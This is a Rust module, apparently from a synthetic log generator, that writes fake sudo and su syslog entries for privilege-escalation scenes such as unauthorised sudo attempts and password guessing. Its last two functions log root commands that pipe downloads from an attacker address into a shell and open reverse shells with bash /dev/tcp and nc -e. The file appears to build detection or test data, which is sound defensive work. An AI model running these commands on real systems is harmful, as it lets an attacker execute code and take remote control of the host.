//! More rights than one has: sudo, su, commands as root.

use super::Scene;
use crate::generate::acts::{sudo, sudo_wrong};
use crate::generate::world::Host;

/// An account without the right tries, more than once.
pub(super) fn not_in_sudoers(s: &mut Scene<'_, '_>) {
    let (host, victim) = (s.host(Host::App1), s.take_victim());
    let user = &victim.login;
    for (n, command) in ["/usr/bin/cat /etc/shadow", "/usr/bin/bash", "/usr/bin/passwd root"].iter().enumerate() {
        let t = s.at(n as i64 * 18_000);
        s.c.out.syslog(
            t,
            host,
            "sudo",
            0,
            format_args!(
                "{user:>8} : user NOT in sudoers ; TTY=pts/3 ; PWD=/home/{user} ; USER=root ; COMMAND={command}"
            ),
        );
    }
}

/// Wrong passwords for sudo, round after round.
pub(super) fn sudo_guessing(s: &mut Scene<'_, '_>) {
    let (host, victim) = (s.host(Host::Build1), s.take_victim());
    let (user, uid) = (&victim.login, victim.uid);
    for n in 0..3 {
        for i in 0..3 {
            let t = s.at(n * 36_000 + i * 6_000);
            sudo_wrong(&mut s.c, t, host, user, uid);
        }
        let t = s.at(n * 36_000 + 18_500);
        s.c.out.syslog(
            t,
            host,
            "sudo",
            0,
            format_args!(
                "{user:>8} : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/bash"
            ),
        );
    }
}

/// Wrong passwords for root with su.
pub(super) fn su_guessing(s: &mut Scene<'_, '_>) {
    let (host, victim) = (s.host(Host::Db1), s.take_victim());
    let (user, uid) = (&victim.login, victim.uid);
    for n in 0..8 {
        let t = s.at(n * 13_000);
        let pid = s.c.state.pid(host, s.c.r);
        s.c.out.syslog(
            t,
            host,
            "su",
            pid,
            format_args!(
                "pam_unix(su:auth): authentication failure; logname={user} uid={uid} euid=0 tty=/dev/pts/1 ruser={user} rhost=  user=root"
            ),
        );
        s.c.out.syslog(t + 2_100_000, host, "su", pid, format_args!("FAILED SU (to root) {user} on pts/1"));
    }
}

/// Code is loaded and run as root.
pub(super) fn download_to_shell(s: &mut Scene<'_, '_>) {
    let (ip, host, victim) = (s.attacker(0), s.host(Host::Build1), s.take_victim());
    let command = format!("/usr/bin/bash -c curl -fsSL http://{ip}/i.sh | bash");
    let t = s.at(2_000);
    sudo(&mut s.c, t, host, &victim.login, victim.uid, &command);
    let command = format!("/usr/bin/sh -c wget -qO- http://{ip}/stage2 | sh");
    let t = s.at(21_000);
    sudo(&mut s.c, t, host, &victim.login, victim.uid, &command);
}

/// A shell that calls home.
pub(super) fn reverse_shell(s: &mut Scene<'_, '_>) {
    let (ip, host, victim) = (s.attacker(0), s.host(Host::App1), s.take_victim());
    let command = format!("/usr/bin/bash -c bash -i >& /dev/tcp/{ip}/4444 0>&1");
    let t = s.at(1_000);
    sudo(&mut s.c, t, host, &victim.login, victim.uid, &command);
    let command = format!("/usr/bin/nc -e /bin/sh {ip} 4445");
    let t = s.at(24_000);
    sudo(&mut s.c, t, host, &victim.login, victim.uid, &command);
}
